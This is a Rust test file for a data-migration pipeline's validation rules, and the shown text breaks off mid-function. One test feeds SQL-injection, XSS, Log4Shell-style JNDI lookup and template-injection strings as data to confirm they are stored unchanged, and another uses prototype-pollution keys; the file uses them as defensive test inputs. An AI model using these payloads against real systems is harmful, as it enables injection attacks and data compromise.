//! The pipeline's rules one by one: a table of bad values for every rule, each with the reason
//! it must fail, on small inline specs so each rule is isolated; edge cases (10,000-level
//! nesting, a 5 MB string, `__proto__` keys, SQL and `<script>` text); regression tests named
//! after the bug they pin; and property tests (determinism and client/server agreement on
//! arbitrary records, lossless titles from any UTF-16, batch bounds for any limits).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test fails by panicking"
)]

use std::sync::OnceLock;

use ferry_core::lossless::LosslessString;
use ferry_core::pipeline::{self, Cell, Code, Context, Keep, Locator, Outcome, Record};
use ferry_core::spec::Spec;
use ferry_core::wire::{self, BatchHeader, BatchLimits};
use ferry_sample::{self as sample, LegacyApp, SampleOptions};
use proptest::prelude::*;
use serde_json::{Value, json};
use uuid::Uuid;

const CTX: Context = Context {
    device_id: Uuid::from_u128(0x0d0d_0d0d_1111_4111_8111_1111_1111_1111),
    migrated_at_ms: 1_780_000_000_000,
};
const MIGRATION: Uuid = Uuid::from_u128(0x4d49_4752_4154_4530_8000_0000_0000_0002);

fn ls(text: &str) -> LosslessString {
    LosslessString::from_unicode(text)
}

/// A spec with one kind, `items` (an array under key `items`, ids in `id`), whose only field
/// reads property `v` into column `v` with the given rules. `kind_extra` adds kind settings.
fn one_field_spec(rules: Value, kind_extra: Value) -> Spec {
    let mut field = json!({ "from": "v", "column": "v" });
    for (k, v) in rules.as_object().unwrap() {
        field[k] = v.clone();
    }
    let mut kind = json!({
        "name": "items",
        "source": { "array": "items" },
        "id": { "from": "id", "scope": "global", "legacy_column": "legacy_id" },
        "table": "items",
        "conflict": "overwrite",
        "fields": [field]
    });
    for (k, v) in kind_extra.as_object().unwrap() {
        kind[k] = v.clone();
    }
    let doc = json!({ "ferry_spec": 1, "app": "cases", "version": "1", "kinds": [kind] });
    Spec::parse(&doc.to_string()).unwrap_or_else(|e| panic!("test spec {rules}: {e}"))
}

fn spec_of(kinds: Value) -> Spec {
    let doc = json!({ "ferry_spec": 1, "app": "cases", "version": "1", "kinds": kinds });
    Spec::parse(&doc.to_string()).unwrap_or_else(|e| panic!("test spec: {e}"))
}

/// Processes one key holding `value` (JSON text, in escaped form).
fn process_key(spec: &Spec, key: &str, value: &str) -> Vec<Record> {
    let pairs = vec![(
        ls(key),
        LosslessString::from_escaped(value.to_owned()).unwrap(),
    )];
    pipeline::process(spec, &pairs, &CTX)
}

/// Processes one record (JSON text) as the only item of the `items` array.
fn process_one(spec: &Spec, record: &str) -> Record {
    let mut records = process_key(spec, "items", &format!("[{record}]"));
    assert_eq!(records.len(), 1, "one record in, one out");
    records.remove(0)
}

/// The record `{"id":"r1","v":<value>}`.
fn v(value: &str) -> String {
    format!(r#"{{"id":"r1","v":{value}}}"#)
}

fn rejection_codes(record: &Record) -> Vec<Code> {
    match &record.outcome {
        Outcome::Rejected(notes) => notes.iter().map(|n| n.code).collect(),
        _ => Vec::new(),
    }
}

// ---------------------------------------------------------------------------------------------
// The table of bad values.
// ---------------------------------------------------------------------------------------------

struct Case {
    /// The field's rules (`from` and `column` are added).
    rules: Value,
    /// The whole record, JSON text.
    record: String,
    /// The code the rejection must carry.
    code: Code,
    /// Why this value must fail.
    why: &'static str,
}

fn case(rules: Value, record: String, code: Code, why: &'static str) -> Case {
    Case {
        rules,
        record,
        code,
        why,
    }
}

fn bad_values() -> Vec<Case> {
    use Code as C;
    let s = |extra: Value| {
        let mut r = json!({ "type": "string" });
        for (k, v) in extra.as_object().unwrap() {
            r[k] = v.clone();
        }
        r
    };
    let int = json!({ "type": "integer", "range": { "min": 0, "max": 10 } });
    let any_int = json!({ "type": "integer" });
    let num = json!({ "type": "number", "range": { "min": 0, "max": 1 } });
    let boolean = json!({ "type": "boolean" });
    let iso = json!({ "type": "timestamp", "formats": ["iso8601"] });
    let ms = json!({ "type": "timestamp", "formats": ["epoch_ms"] });
    let secs = json!({ "type": "timestamp", "formats": ["epoch_s"] });
    let status =
        json!({ "type": "enum", "values": ["pending", "done"], "legacy": { "todo": "pending" } });
    let tags = json!({ "type": "array", "items": "string", "max_items": 2, "length": { "min": 1, "max": 3 }, "regex": "^[a-z]+$" });
    let required = json!({ "type": "string", "required": true });
    let required_json = json!({ "type": "json", "required": true });
    vec![
        // Strings: length counts characters of the original text.
        case(
            s(json!({ "length": { "min": 2 } })),
            v(r#""a""#),
            C::Length,
            "one character where two are required",
        ),
        case(
            s(json!({ "length": { "min": 1 } })),
            v(r#""""#),
            C::Length,
            "empty where length.min is 1",
        ),
        case(
            s(json!({ "length": { "max": 3 } })),
            v(r#""abcd""#),
            C::Length,
            "four characters where three are allowed",
        ),
        case(
            s(json!({ "length": { "max": 3 } })),
            v(r#""😀😀😀😀""#),
            C::Length,
            "four emoji are four characters (eight UTF-16 units)",
        ),
        case(
            s(json!({ "length": { "max": 1 } })),
            v(r#""\ud800\ud800""#),
            C::Length,
            "two lone surrogates are two characters, not ten escaped ones",
        ),
        case(s(json!({})), v("42"), C::Type, "a number is not a string"),
        case(
            s(json!({})),
            v("true"),
            C::Type,
            "a boolean is not a string",
        ),
        case(
            s(json!({})),
            v(r#"{"text":"x"}"#),
            C::Type,
            "an object is not a string",
        ),
        case(
            s(json!({})),
            v(r#"["x"]"#),
            C::Type,
            "an array is not a string",
        ),
        // Integers and numbers.
        case(int.clone(), v("11"), C::Range, "above range.max"),
        case(int.clone(), v("-1"), C::Range, "below range.min"),
        case(
            any_int.clone(),
            v("1.5"),
            C::Type,
            "a fraction is not an integer",
        ),
        case(
            any_int.clone(),
            v("9007199254740992"),
            C::Type,
            "2^53 is beyond JavaScript's safe integers",
        ),
        case(
            any_int.clone(),
            v("-9007199254740993"),
            C::Type,
            "below -(2^53 - 1)",
        ),
        case(
            any_int.clone(),
            v("18446744073709551615"),
            C::Type,
            "u64::MAX: JavaScript rounds it",
        ),
        case(
            any_int.clone(),
            v("1e300"),
            C::Type,
            "a huge float is not a safe integer",
        ),
        case(
            any_int.clone(),
            v(r#""5""#),
            C::Type,
            "numeric text is not a number",
        ),
        case(
            any_int.clone(),
            v("1e400"),
            C::NotJson,
            "beyond f64: JSON.stringify never writes it, so the value is not JSON",
        ),
        case(
            num.clone(),
            v("NaN"),
            C::NotJson,
            "NaN is not JSON (JSON.stringify writes null)",
        ),
        case(
            num.clone(),
            v("Infinity"),
            C::NotJson,
            "Infinity is not JSON",
        ),
        case(
            num.clone(),
            v("-Infinity"),
            C::NotJson,
            "-Infinity is not JSON",
        ),
        case(
            num.clone(),
            v("1.0000001"),
            C::Range,
            "just above range.max",
        ),
        case(
            num.clone(),
            v(r#""0.5""#),
            C::Type,
            "numeric text is not a number",
        ),
        // Booleans.
        case(
            boolean.clone(),
            v(r#""true""#),
            C::Type,
            "the string \"true\" is not true",
        ),
        case(boolean.clone(), v("1"), C::Type, "1 is not true"),
        case(
            boolean.clone(),
            v(r#""""#),
            C::Type,
            "an empty string is not false",
        ),
        // Timestamps, each format.
        case(
            iso.clone(),
            v(r#""2024-13-01T00:00:00Z""#),
            C::Timestamp,
            "month 13",
        ),
        case(
            iso.clone(),
            v(r#""2023-02-29""#),
            C::Timestamp,
            "2023 is not a leap year",
        ),
        case(
            iso.clone(),
            v(r#""2024-02-30T10:00:00.000Z""#),
            C::Timestamp,
            "February 30",
        ),
        case(
            iso.clone(),
            v(r#""Tue Jan 02 2024 10:00:00 GMT+0100""#),
            C::Timestamp,
            "Date.toString() output is not ISO 8601",
        ),
        case(
            iso.clone(),
            v(r#""Invalid Date""#),
            C::Timestamp,
            "String(new Date(NaN))",
        ),
        case(
            iso.clone(),
            v(r#""+275760-09-13T00:00:00.000Z""#),
            C::Timestamp,
            "JavaScript's last date, beyond year 9999",
        ),
        case(
            iso.clone(),
            v(r#""0000-01-01T00:00:00.000Z""#),
            C::Timestamp,
            "year zero",
        ),
        case(
            iso.clone(),
            v("1700000000000"),
            C::Timestamp,
            "epoch milliseconds given to an ISO-only field",
        ),
        case(
            iso.clone(),
            v(r#"{"$date":"2024-01-01"}"#),
            C::Timestamp,
            "an object wrapper is not a timestamp",
        ),
        case(
            ms.clone(),
            v(r#""2024-01-01T00:00:00Z""#),
            C::Timestamp,
            "ISO text given to an epoch-only field",
        ),
        case(
            ms.clone(),
            v(r#""1700000000000""#),
            C::Timestamp,
            "epoch as text is not a number",
        ),
        case(
            ms.clone(),
            v("8640000000000001"),
            C::Timestamp,
            "beyond JavaScript's Date range",
        ),
        case(
            ms.clone(),
            v("true"),
            C::Timestamp,
            "a boolean is not a timestamp",
        ),
        case(
            secs.clone(),
            v("1700000000000"),
            C::Timestamp,
            "milliseconds given to a seconds field: year 55,000",
        ),
        case(secs.clone(), v("-1e12"), C::Timestamp, "before year 0001"),
        // Enums.
        case(
            status.clone(),
            v(r#""archived""#),
            C::Enum,
            "neither a value nor a legacy value",
        ),
        case(
            status.clone(),
            v(r#""Pending""#),
            C::Enum,
            "values are case-sensitive",
        ),
        case(
            status.clone(),
            v(r#"" pending""#),
            C::Enum,
            "values are not trimmed",
        ),
        case(status.clone(), v("1"), C::Type, "an index is not a value"),
        // Email, URL, pattern.
        case(
            s(json!({ "email": true })),
            v(r#""jane.doe@""#),
            C::Email,
            "no domain",
        ),
        case(
            s(json!({ "email": true })),
            v(r#""@example.com""#),
            C::Email,
            "no user",
        ),
        case(
            s(json!({ "email": true })),
            v(r#""jane doe@example.com""#),
            C::Email,
            "a space in the user",
        ),
        case(
            s(json!({ "email": true })),
            v(r#""jane@@example.com""#),
            C::Email,
            "two @",
        ),
        case(
            s(json!({ "url": true })),
            v(r#""not a url""#),
            C::Url,
            "plain words",
        ),
        case(
            s(json!({ "url": true })),
            v(r#""example.com/path""#),
            C::Url,
            "no scheme",
        ),
        case(
            s(json!({ "url": true })),
            v(r#""http://""#),
            C::Url,
            "no host",
        ),
        case(
            s(json!({ "regex": "^[a-z0-9-]+$" })),
            v(r#""Work Stuff""#),
            C::Regex,
            "capitals and a space",
        ),
        case(
            s(json!({ "regex": "^[a-z0-9-]+$" })),
            v(r#""work\n""#),
            C::Regex,
            "`$` is the end of the text, not of a line",
        ),
        // Arrays of strings.
        case(
            tags.clone(),
            v(r#"["a","b","c"]"#),
            C::Items,
            "three items where two are allowed",
        ),
        case(
            tags.clone(),
            v(r#"["a",1]"#),
            C::Type,
            "an item is a number",
        ),
        case(tags.clone(), v(r#"["a",null]"#), C::Type, "an item is null"),
        case(
            tags.clone(),
            v(r#"[["a"]]"#),
            C::Type,
            "an item is an array",
        ),
        case(
            tags.clone(),
            v(r#"["abcd"]"#),
            C::Length,
            "an item longer than length.max",
        ),
        case(
            tags.clone(),
            v(r#"[""]"#),
            C::Length,
            "an empty item where length.min is 1",
        ),
        case(
            tags.clone(),
            v(r#"["A"]"#),
            C::Regex,
            "an item not matching the pattern",
        ),
        case(
            tags.clone(),
            v(r#""a,b""#),
            C::Type,
            "comma-separated text is not an array",
        ),
        case(
            tags.clone(),
            v(r#"{"0":"a","length":1}"#),
            C::Type,
            "an array-like object is not an array",
        ),
        // Required fields.
        case(
            required.clone(),
            r#"{"id":"r1"}"#.to_owned(),
            C::Missing,
            "a required field is absent",
        ),
        case(required.clone(), v("null"), C::Missing, "null is missing"),
        case(
            required_json.clone(),
            v("null"),
            C::Missing,
            "null is missing even for a json field",
        ),
    ]
}

#[test]
fn every_rule_rejects_its_bad_values() {
    let mut failures = Vec::new();
    for c in bad_values() {
        let spec = one_field_spec(c.rules.clone(), json!({}));
        let record = process_one(&spec, &c.record);
        let Outcome::Rejected(notes) = &record.outcome else {
            failures.push(format!(
                "{} — {} {}: accepted as {:?}",
                c.why, c.rules, c.record, record.outcome
            ));
            continue;
        };
        let Some(note) = notes.iter().find(|n| n.code == c.code) else {
            failures.push(format!(
                "{} — {} {}: rejected with {notes:?}, not {:?}",
                c.why, c.rules, c.record, c.code
            ));
            continue;
        };
        // The message must say where: the key and position always, the field when it is about one.
        let place_named =
            note.message.contains(r#""items"[0]"#) || note.message.contains(r#"key "items""#);
        // An array item is named `v[1]` in the message (which field `Note::field` holds for it is
        // pinned by `array_item_reasons_name_the_field_not_the_item`).
        let field_named = c.code == Code::NotJson
            || (note.field.as_deref().is_some_and(|f| f.starts_with('v'))
                && (note.message.contains("`v`") || note.message.contains("`v[")));
        if !place_named || !field_named {
            failures.push(format!(
                "{} — {}: message does not name key, record and field: {note:?}",
                c.why, c.record
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn the_rules_accept_their_good_values() {
    // Why: a rule that rejects everything passes the table above; these are the edges that pass.
    let s = |extra: Value| {
        let mut r = json!({ "type": "string" });
        for (k, v) in extra.as_object().unwrap() {
            r[k] = v.clone();
        }
        r
    };
    let cases = [
        (
            s(json!({ "length": { "max": 3 } })),
            r#""ééé""#,
            "three characters, six UTF-8 bytes",
        ),
        (
            s(json!({ "length": { "max": 3 } })),
            r#""😀😀😀""#,
            "three emoji",
        ),
        (
            s(json!({ "length": { "max": 1 } })),
            r#""\ud800""#,
            "one lone surrogate is one character",
        ),
        (json!({ "type": "integer" }), "9007199254740991", "2^53 - 1"),
        (
            json!({ "type": "integer" }),
            "-9007199254740991",
            "-(2^53 - 1)",
        ),
        (
            json!({ "type": "integer", "range": { "min": 0, "max": 10 } }),
            "10",
            "range.max is inclusive",
        ),
        (
            json!({ "type": "integer" }),
            "1e3",
            "a whole number written with an exponent",
        ),
        (
            json!({ "type": "number", "range": { "min": 0, "max": 1 } }),
            "0",
            "range.min is inclusive",
        ),
        (
            json!({ "type": "timestamp", "formats": ["iso8601"] }),
            r#""2024-02-29""#,
            "a leap day",
        ),
        (
            json!({ "type": "timestamp", "formats": ["iso8601"] }),
            r#""9999-12-31T23:59:59.999Z""#,
            "the last instant",
        ),
        (
            json!({ "type": "timestamp", "formats": ["epoch_s"] }),
            "1700000000",
            "epoch seconds",
        ),
        (
            json!({ "type": "timestamp", "formats": ["epoch_ms"] }),
            "1700000000000.5",
            "a fractional millisecond",
        ),
        (
            s(json!({ "email": true })),
            r#""jane.doe+tag@example.co.uk""#,
            "plus addressing",
        ),
        (
            s(json!({ "url": true })),
            r#""https://example.com/a?b=c#d""#,
            "a full URL",
        ),
        (
            json!({ "type": "array", "items": "string", "max_items": 2 }),
            r#"["a","b"]"#,
            "max_items is inclusive",
        ),
        (
            json!({ "type": "array", "items": "string" }),
            "[]",
            "an empty array",
        ),
        (
            json!({ "type": "json" }),
            r#"{"a":[1,{"b":null}]}"#,
            "any JSON",
        ),
    ];
    for (rules, value, why) in cases {
        let spec = one_field_spec(rules.clone(), json!({}));
        let record = process_one(&spec, &v(value));
        assert!(
            record.outcome.is_accepted(),
            "{why}: {rules} {value} gave {:?}",
            record.outcome
        );
    }
}

#[test]
fn an_unknown_enum_value_lists_the_values_and_the_legacy_values() {
    // Why: the user fixing the record needs to know every accepted spelling.
    let spec = one_field_spec(
        json!({ "type": "enum", "values": ["pending", "done"], "legacy": { "todo": "pending" } }),
        json!({}),
    );
    let record = process_one(&spec, &v(r#""archived""#));
    let Outcome::Rejected(notes) = &record.outcome else {
        panic!("{:?}", record.outcome)
    };
    for word in [r#""archived""#, r#""pending""#, r#""done""#, r#""todo""#] {
        assert!(
            notes[0].message.contains(word),
            "{word} missing from {}",
            notes[0].message
        );
    }
    let legacy = process_one(&spec, &v(r#""todo""#));
    let Outcome::Repaired(row, notes) = &legacy.outcome else {
        panic!("{:?}", legacy.outcome)
    };
    assert_eq!(row.cells, vec![Cell::Text("pending".to_owned())]);
    assert_eq!(notes[0].code, Code::LegacyEnum);
}

#[test]
fn unknown_fields_are_rejected_only_when_the_kind_says_so() {
    let record = r#"{"id":"r1","v":"ok","archived":true,"__proto__":{"admin":true}}"#;
    let strict = one_field_spec(
        json!({ "type": "string" }),
        json!({ "unknown_fields": "reject" }),
    );
    let r = process_one(&strict, record);
    let Outcome::Rejected(notes) = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    let fields: Vec<_> = notes.iter().map(|n| (n.code, n.field.as_deref())).collect();
    assert_eq!(
        fields,
        vec![
            (Code::Unknown, Some("__proto__")),
            (Code::Unknown, Some("archived"))
        ],
        "each unknown field is named; `__proto__` is just a name"
    );
    let lenient = one_field_spec(json!({ "type": "string" }), json!({}));
    assert!(matches!(
        process_one(&lenient, record).outcome,
        Outcome::Valid(_)
    ));
}

#[test]
fn every_unusable_id_is_rejected() {
    let spec = one_field_spec(json!({ "type": "string" }), json!({}));
    let cases = [
        (r#"{"v":"x"}"#, "no id"),
        (r#"{"id":null,"v":"x"}"#, "a null id"),
        (r#"{"id":"","v":"x"}"#, "an empty id"),
        (r#"{"id":1.5,"v":"x"}"#, "a fractional id"),
        (r#"{"id":9007199254740993,"v":"x"}"#, "an id beyond 2^53"),
        (r#"{"id":{"uuid":"x"},"v":"x"}"#, "an object id"),
        (r#"{"id":["x"],"v":"x"}"#, "an array id"),
        (r#"{"id":true,"v":"x"}"#, "a boolean id"),
    ];
    for (record, why) in cases {
        let r = process_one(&spec, record);
        assert_eq!(
            rejection_codes(&r),
            vec![Code::Id],
            "{why}: {record} gave {:?}",
            r.outcome
        );
        assert_eq!(r.id, None, "{why}: no target id without a legacy id");
        let Outcome::Rejected(notes) = &r.outcome else {
            unreachable!()
        };
        assert!(
            notes[0].message.contains("`id`"),
            "{why}: {}",
            notes[0].message
        );
    }
    // A safe integer id is fine, and is the same record as its decimal text.
    let a = process_one(&spec, r#"{"id":17,"v":"x"}"#);
    let b = process_one(&spec, r#"{"id":"17","v":"x"}"#);
    assert!(a.outcome.is_accepted());
    assert_eq!(a.id, b.id);
}

#[test]
fn a_container_of_the_wrong_shape_is_one_rejected_record() {
    let spec = spec_of(json!([
        { "name": "list", "source": { "array": "list" }, "id": { "from": "id", "scope": "global" },
          "table": "list", "conflict": "skip", "fields": [{ "from": "v", "column": "v", "type": "string" }] },
        { "name": "map", "source": { "map": "map" }, "id": { "from": "$map_key", "scope": "device" },
          "table": "map", "conflict": "skip", "fields": [{ "from": "v", "column": "v", "type": "string" }] },
        { "name": "one", "source": { "object": "one" }, "id": { "from": "$singleton", "scope": "global" },
          "table": "one", "conflict": "skip", "fields": [{ "from": "v", "column": "v", "type": "string" }] },
        { "name": "each", "source": { "prefix": "each:" }, "id": { "from": "$key_suffix", "scope": "global" },
          "table": "each", "conflict": "skip", "fields": [{ "from": "v", "column": "v", "type": "string" }] }
    ]));
    let cases = [
        (
            "list",
            r#"{"a":{"id":"a","v":"x"}}"#,
            "an array source holding an object",
        ),
        (
            "list",
            r#""[]""#,
            "an array source holding a string of JSON (stringified twice)",
        ),
        ("map", r#"[{"v":"x"}]"#, "a map source holding an array"),
        ("one", r#"[{"v":"x"}]"#, "an object source holding an array"),
        ("one", "42", "an object source holding a number"),
        (
            "each:x",
            r#""text""#,
            "a prefix record that is a JSON string",
        ),
    ];
    for (key, value, why) in cases {
        let records = process_key(&spec, key, value);
        assert_eq!(records.len(), 1, "{why}: one record for the whole value");
        assert_eq!(records[0].locator, Locator::Whole, "{why}");
        assert!(
            rejection_codes(&records[0]).contains(&Code::Shape),
            "{why}: {:?}",
            records[0].outcome
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Edge cases: size, depth, prototype keys, hostile text.
// ---------------------------------------------------------------------------------------------

#[test]
fn deep_nesting_is_not_json_and_does_not_overflow_the_stack() {
    // Why: serde_json's recursion limit (128) must turn 10,000 levels into an error, not a crash,
    // both in a record kind (rejected) and in a free-form kind (kept as text).
    let arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let objects = format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000));
    let spec = one_field_spec(json!({ "type": "json" }), json!({}));
    for deep in [&arrays, &objects] {
        let records = process_key(&spec, "items", &format!("[{}]", v(deep)));
        assert_eq!(records.len(), 1);
        assert_eq!(rejection_codes(&records[0]), vec![Code::NotJson]);
    }
    let free = spec_of(
        json!([{ "name": "custom", "source": { "prefix": "c:" }, "id": { "from": "$key", "scope": "global" },
        "table": "custom", "conflict": "skip", "fields": [{ "from": "$value", "column": "value", "type": "json" }] }]),
    );
    let records = process_key(&free, "c:deep", &arrays);
    let Outcome::Repaired(row, notes) = &records[0].outcome else {
        panic!("{:?}", records[0].outcome)
    };
    assert_eq!(notes[0].code, Code::NotJson);
    assert_eq!(
        row.cells[0],
        Cell::Json(Value::String(arrays.clone())),
        "kept as text, unchanged"
    );
}

#[test]
fn nesting_within_the_limit_survives_the_round_trip_to_the_server() {
    let nested = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    let spec = one_field_spec(json!({ "type": "json" }), json!({}));
    let records = process_key(&spec, "items", &format!("[{}]", v(&nested)));
    assert!(records[0].outcome.is_accepted(), "{:?}", records[0].outcome);
    assert_server_agrees(&spec, &records);
}

#[test]
fn a_five_megabyte_string_is_migrated_whole_and_quoted_short() {
    let big = "x".repeat(5 * 1024 * 1024);
    let spec = one_field_spec(json!({ "type": "string" }), json!({}));
    let r = process_one(&spec, &v(&format!("\"{big}\"")));
    let Outcome::Valid(row) = &r.outcome else {
        panic!("not valid")
    };
    assert!(
        row.cells[0] == Cell::Text(big.clone()),
        "the value arrives whole"
    );
    let limited = one_field_spec(
        json!({ "type": "string", "length": { "max": 100 } }),
        json!({}),
    );
    let r = process_one(&limited, &v(&format!("\"{big}\"")));
    let Outcome::Rejected(notes) = &r.outcome else {
        panic!("accepted")
    };
    assert_eq!(notes[0].code, Code::Length);
    assert!(
        notes[0].message.len() < 400,
        "the message quotes a short prefix: {} bytes",
        notes[0].message.len()
    );
    assert!(
        notes[0].message.contains("5242880 characters"),
        "{}",
        notes[0].message
    );
}

#[test]
fn prototype_keys_are_plain_data() {
    // Why: `__proto__` and `constructor` mean something to JavaScript objects, nothing to Ferry:
    // they are kept as data in a json field and read like any property.
    let payload = r#"{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":1}},"toString":"x"}"#;
    let spec = one_field_spec(json!({ "type": "json" }), json!({}));
    let r = process_one(&spec, &v(payload));
    let Outcome::Valid(row) = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    let expected: Value = serde_json::from_str(payload).unwrap();
    assert_eq!(row.cells[0], Cell::Json(expected));
    let pipeline::Raw::Json(raw) = &r.raw else {
        panic!("raw is JSON")
    };
    assert!(raw.contains(r#""__proto__":{"isAdmin":true}"#), "{raw}");

    let from_proto = spec_of(
        json!([{ "name": "items", "source": { "array": "items" }, "id": { "from": "id", "scope": "global" },
        "table": "items", "conflict": "skip", "fields": [{ "from": "__proto__", "column": "proto", "type": "json" }] }]),
    );
    let r = process_one(&from_proto, r#"{"id":"r1","__proto__":{"a":1}}"#);
    let Outcome::Valid(row) = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert_eq!(row.cells[0], Cell::Json(json!({ "a": 1 })));
}

#[test]
fn duplicate_property_names_keep_the_last_like_json_parse() {
    let spec = one_field_spec(json!({ "type": "string" }), json!({}));
    let r = process_one(&spec, r#"{"id":"r1","v":"first","v":"last"}"#);
    assert_eq!(
        r.outcome.row().unwrap().cells,
        vec![Cell::Text("last".to_owned())]
    );
}

#[test]
fn sql_and_script_text_is_valid_and_unchanged() {
    // Why: Ferry stores text, it does not interpret it; escaping is the job of the SQL
    // parameters and of whoever renders HTML.
    let spec = one_field_spec(
        json!({ "type": "string", "length": { "min": 1, "max": 200 } }),
        json!({}),
    );
    for text in [
        "'); DROP TABLE tasks;--",
        "Robert'); DROP TABLE students;--",
        "\" OR 1=1 --",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://example.com/a}",
        "{{constructor.constructor('alert(1)')()}}",
        "مرحبا \u{202E}gpj.exe",
        "C:\\new\\ud800 typed, not an escape",
    ] {
        let json_text = serde_json::to_string(text).unwrap();
        let r = process_one(&spec, &v(&json_text));
        let Outcome::Valid(row) = &r.outcome else {
            panic!("{text}: {:?}", r.outcome)
        };
        assert_eq!(row.cells[0], Cell::Text(text.to_owned()), "{text}");
    }
}

#[test]
fn an_empty_key_suffix_is_an_unknown_key_not_a_lost_record() {
    // Why: `formData:` + "" belongs to no kind (the suffix is the id); it must still be reported.
    let spec = spec_of(
        json!([{ "name": "forms", "source": { "prefix": "formData:" }, "id": { "from": "$key_suffix", "scope": "global" },
        "table": "forms", "conflict": "manual", "fields": [{ "from": "$value", "column": "data", "type": "json" }] }]),
    );
    let pairs = vec![(ls("formData:"), ls("{}")), (ls("formData:a"), ls("{}"))];
    let inventory = pipeline::inventory(&spec, &pairs);
    assert_eq!(inventory.unknown.len(), 1);
    assert_eq!(inventory.unknown[0].key, ls("formData:"));
    assert_eq!(pipeline::process(&spec, &pairs, &CTX).len(), 1);
}

// ---------------------------------------------------------------------------------------------
// Regression tests, each named after the bug it pins.
// ---------------------------------------------------------------------------------------------

#[test]
fn identical_duplicate_is_marked_on_the_later_copy() {
    // `settle_duplicates` documents "identical copies become Duplicate of the first"; the
    // first copy must stay the migrated one and the later copy point at it.
    let spec = one_field_spec(json!({ "type": "string" }), json!({}));
    let records = process_key(&spec, "items", r#"[{"id":"a","v":"x"},{"v":"x","id":"a"}]"#);
    assert!(
        matches!(records[0].outcome, Outcome::Valid(_)),
        "first copy: {:?}",
        records[0].outcome
    );
    assert_eq!(
        records[1].outcome,
        Outcome::Duplicate(Locator::Index(0)),
        "second copy"
    );
}

#[test]
fn map_keys_with_nul_or_lone_surrogates_are_not_escaped_twice() {
    // A map key is already in escaped form when parsed; escaping it again turns the legacy id
    // `a\0b` into `a\u{FFFF}0000b` read back as the six units a, U+FFFF, 0, 0, 0, 0, b.
    let spec = spec_of(
        json!([{ "name": "notes", "source": { "map": "notes" }, "id": { "from": "$map_key", "scope": "device", "legacy_column": "legacy_id" },
        "table": "notes", "conflict": "skip", "fields": [{ "from": "v", "column": "v", "type": "string" }] }]),
    );
    let records = process_key(
        &spec,
        "notes",
        r#"{"a\u0000b":{"v":"x"},"\ud800":{"v":"y"}}"#,
    );
    let mut legacy: Vec<Vec<u16>> = records
        .iter()
        .map(|r| r.legacy_id.as_ref().unwrap().to_utf16())
        .collect();
    legacy.sort();
    assert_eq!(legacy, vec![vec![0x61, 0, 0x62], vec![0xD800]]);
    for r in &records {
        assert_eq!(r.locator, Locator::MapKey(r.legacy_id.clone().unwrap()));
    }
}

#[test]
fn messages_never_quote_a_sensitive_value() {
    // `sensitive: true` promises the value is "never logged or quoted"; a value that is not JSON,
    // or has the wrong shape, is quoted raw in the message, secret included.
    let spec = spec_of(
        json!([{ "name": "account", "source": { "object": "account" }, "id": { "from": "$singleton", "scope": "global" },
        "table": "account", "conflict": "skip",
        "fields": [{ "from": "apiKey", "column": "api_key", "type": "string", "sensitive": true },
                   { "from": "email", "column": "email", "type": "string" }] }]),
    );
    for (value, why) in [
        (
            r#"{"apiKey":"sk_live_SECRET","email":"jane@example.com""#,
            "a write cut short",
        ),
        (
            r#"[{"apiKey":"sk_live_SECRET"}]"#,
            "an array instead of an object",
        ),
    ] {
        let records = process_key(&spec, "account", value);
        let Outcome::Rejected(notes) = &records[0].outcome else {
            panic!("{why}: accepted")
        };
        for n in notes {
            assert!(
                !n.message.contains("SECRET"),
                "{why}: the message quotes the secret: {}",
                n.message
            );
        }
    }
}

#[test]
fn a_surrogate_pair_written_half_raw_half_escaped_is_one_character() {
    // JSON.parse joins `\ud83d` followed by a raw U+DE00 (or a raw U+D83D followed by
    // `\ude00`) into 😀. `lossless::prepare_json` pairs only two escape texts, so the title
    // becomes two escaped lone surrogates: non-canonical escaped form (PostgreSQL stores
    // `\u{FFFF}D83D\u{FFFF}DE00`, not 😀), two characters for the length rule, and an
    // `Escaped` repair on a string that has no lone surrogate.
    let spec = one_field_spec(
        json!({ "type": "string", "length": { "max": 1 } }),
        json!({}),
    );
    let before: Vec<u16> = r#"[{"id":"r1","v":""#.encode_utf16().collect();
    let after: Vec<u16> = r#""}]"#.encode_utf16().collect();
    let escaped_high: Vec<u16> = "\\ud83d".encode_utf16().collect();
    let escaped_low: Vec<u16> = "\\ude00".encode_utf16().collect();
    for middle in [
        [escaped_high, vec![0xDE00]].concat(),
        [vec![0xD83D], escaped_low].concat(),
    ] {
        let value = LosslessString::from_utf16(&[before.clone(), middle, after.clone()].concat());
        let records = pipeline::process(&spec, &[(ls("items"), value)], &CTX);
        assert_eq!(
            records[0].outcome,
            Outcome::Valid(pipeline::Row {
                cells: vec![Cell::Text("😀".to_owned())]
            })
        );
    }
}

#[test]
fn array_item_reasons_name_the_field_not_the_item() {
    // `Note::field` is "the field (source property, or column)"; a too-long tag is reported with
    // field `tags[1]`, an item of the wrong type with field `tags`: one name, for grouping.
    let spec = spec_of(
        json!([{ "name": "items", "source": { "array": "items" }, "id": { "from": "id", "scope": "global" },
        "table": "items", "conflict": "skip",
        "fields": [{ "from": "tags", "column": "tags", "type": "array", "items": "string", "length": { "max": 3 } }] }]),
    );
    for tags in [r#"["ok","toolong"]"#, r#"["ok",7]"#] {
        let r = process_one(&spec, &format!(r#"{{"id":"r1","tags":{tags}}}"#));
        let Outcome::Rejected(notes) = &r.outcome else {
            panic!("{tags} accepted")
        };
        assert_eq!(notes[0].field.as_deref(), Some("tags"), "{tags}: {notes:?}");
        assert!(
            notes[0].message.contains("`tags[1]`"),
            "the message still names the item: {}",
            notes[0].message
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Property tests.
// ---------------------------------------------------------------------------------------------

/// Ships `records` in batches and checks that the server's re-run of each accepted record
/// gives the browser's id, hash and outcome.
fn assert_server_agrees(spec: &Spec, records: &[Record]) {
    let header = BatchHeader::new(spec, MIGRATION, &CTX);
    for batch in wire::build_batches(
        spec,
        &header,
        records,
